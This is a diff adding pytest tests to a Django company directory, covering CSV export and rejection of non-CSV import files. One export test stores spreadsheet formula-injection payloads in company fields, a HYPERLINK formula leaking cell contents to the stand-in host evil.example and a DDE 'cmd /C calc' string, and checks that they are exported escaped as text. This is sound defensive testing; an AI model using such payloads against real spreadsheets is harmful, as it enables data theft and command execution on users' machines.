@@ -1,5 +1,7 @@
 """The directory for the city: search, filters, CSV export and the contact list import."""
 
+import random
+
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
@@ -164,6 +166,22 @@ def test_export_accents_and_sectors(client, staff_user, directory, sectors):
     assert lines[1] == "Protécto;35600000000048;Aubagne;medium;digital|maritime;no;;"
 
 
+def test_export_writes_formulas_as_text_and_keeps_telephones(client, staff_user, directory):
+    Company.objects.filter(pk=directory["transpare"].pk).update(
+        name='=HYPERLINK("http://evil.example/?x="&A1,"x")',
+        city="+33 cmd|' /C calc'!A0",
+        website="+33 4 91 00 00 00",
+    )
+    client.force_login(staff_user)
+
+    response = client.get(EXPORT, {"verified": "yes", "size": "small"})
+
+    assert response.content.decode("utf-8-sig").split("\r\n")[1] == (
+        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")";73282932000074;'
+        "'+33 cmd\\|' /C calc'!A0;small;maritime;yes;+33 4 91 00 00 00;ali@transpare.example"
+    )
+
+
 @pytest.mark.parametrize(("fixture", "status"), [("official_user", 404), ("company_member", 404)])
 def test_export_refused_to_others(client, directory, fixture, status, request):
     client.force_login(request.getfixturevalue(fixture))
@@ -183,12 +201,12 @@ def _csv(*lines, header=HEADER, encoding="utf-8-sig") -> bytes:
     return (header + "".join(line + "\r\n" for line in lines)).encode(encoding)
 
 
-def _post(client, data: bytes, verified=False):
+def _post(client, data: bytes, verified=False, **headers):
     upload = SimpleUploadedFile("contacts.csv", data, content_type="text/csv")
     payload = {"file": upload}
     if verified:
         payload["verified"] = "on"
-    return client.post(IMPORT, payload)
+    return client.post(IMPORT, payload, **headers)
 
 
 def test_read_reports_every_bad_row_with_its_line(sectors):
@@ -291,6 +309,39 @@ def test_import_missing_columns_reported(client, staff_user):
     assert [(e.line, e.message) for e in response.context["errors"]] == [
         (1, "Colonnes manquantes : company_name, siret, first_name, last_name.")
     ]
+
+
+NOT_CSV = {
+    "random-bytes": (
+        random.Random(7).randbytes(200 * 1024),
+        "This file is not a CSV text file: save it from your spreadsheet as “CSV UTF-8 "
+        "(comma delimited)” and try again.",
+    ),
+    "nul": (
+        _csv(f"Protecto;{SIRET_B};Aubagne;;Léa;Du\x00rand;lea@protecto.example;fr"),
+        "This file is not a CSV text file: save it from your spreadsheet as “CSV UTF-8 "
+        "(comma delimited)” and try again.",
+    ),
+    "huge-cell": (
+        _csv(f"Protecto;{SIRET_B};{'A' * 131_073};;Léa;Durand;lea@protecto.example;fr"),
+        "A cell of the file holds more than 100,000 characters.",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", NOT_CSV)
+def test_import_of_a_file_that_is_not_csv_text_says_so_and_imports_nothing(
+    client, staff_user, sectors, case
+):
+    raw, sentence = NOT_CSV[case]
+    client.force_login(staff_user)
+
+    response = _post(client, raw, verified=True, HTTP_ACCEPT_LANGUAGE="en")
+
+    assert response.status_code == 200
+    assert response.context["form"].errors["file"] == [sentence]
+    assert response.context["form"]["verified"].value() is True
+    assert Company.objects.count() == 0
 
 
 @pytest.mark.parametrize("fixture", ["official_user", "company_member"])
